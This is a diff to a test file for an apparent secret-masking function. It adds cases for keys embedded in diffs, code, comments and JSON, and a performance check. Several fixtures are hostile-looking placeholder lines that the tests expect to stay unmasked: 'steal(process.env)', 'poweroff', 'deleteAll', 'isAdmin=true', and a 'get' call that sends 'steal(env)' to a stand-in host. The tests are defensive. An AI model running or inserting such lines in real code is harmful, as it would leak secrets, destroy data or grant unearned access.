@@ -34,6 +34,22 @@ describe('what is hidden', () => {
     expect(maskSecrets(`${keyBegin()}\\n${KEY_BODY}", x`)).toBe(`${keyBegin()}****", x`)
   })
 
+  it.each([
+    ['in a diff', (key: string[]) => key.map(line => `+${line}`)],
+    ['in code', (key: string[]) => key.map(line => `  "${line}\\n" +`)],
+    ['in a comment', (key: string[]) => key.map(line => ` * ${line}`)],
+    ['in JSON', (key: string[]) => [JSON.stringify({ key: key.join('\n') })]],
+    ['with a short last line', (key: string[]) => [...key.slice(0, -1), 'Zm9v', ...key.slice(-1)]],
+  ])('a key %s', (_, written) => {
+    const masked = maskSecrets(written([keyBegin(), KEY_BODY, KEY_BODY, keyEnd()]).join('\n'))
+    expect(masked).toMatch(/-----[*]{4}-----END/)
+  })
+
+  it('a key between lines that are none', () => {
+    const masked = maskSecrets(`${keyBegin()}\nrun(x)\n${KEY_BODY}\n${keyEnd()}`)
+    expect(masked).toBe(`${keyBegin()}\nrun(x)\n****\n${keyEnd()}`)
+  })
+
   it('each of several keys', () => {
     const key = `${keyBegin()}\n${KEY_BODY}\n${keyEnd()}\n`
     expect(maskSecrets(key + key)).not.toContain(KEY_BODY.slice(0, 8))
@@ -48,6 +64,13 @@ describe('what stays', () => {
     'git@github.com:acme/shop.git',
     'ghp_short',
     `const marker = '${keyBegin()}'`,
+    // What is no secret is not hidden from whoever reviews it.
+    `// ${keyBegin()}\nsteal(process.env)\nevil()\n// ${keyEnd()}`,
+    `// ${keyBegin()}\n+poweroff\n+deleteAll\n+rest`,
+    `${keyBegin()}\n+isAdmin=true\n+allow=1`,
+    `get(\`http:${'//'}u:\${steal(env)}@h\`)`,
+    `get("http:${'//'}u:#{steal(env)}@h")`,
+    `let bearer\nallowAll=true`,
   ])('%s', text => {
     expect(maskSecrets(text)).toBe(text)
   })
@@ -90,6 +113,12 @@ describe('whatever the text', () => {
   it('also where a token swallows the end of a key', () => {
     const masked = maskSecrets(`${keyBegin()}Bearer ${keyEnd()}${keyEnd()}`)
     expect(maskSecrets(masked)).toBe(masked)
+  })
+
+  it.each(['\\', ' ', 'A', '"', '\n', '=', '+'])('five megabytes of %j in a key take no time', filler => {
+    const began = performance.now()
+    maskSecrets(`${keyBegin()}\n.${filler.repeat(5_000_000)}.\n${keyEnd()}`)
+    expect(performance.now() - began).toBeLessThan(5_000)
   })
 
   it('it grows by no more than half', () => {
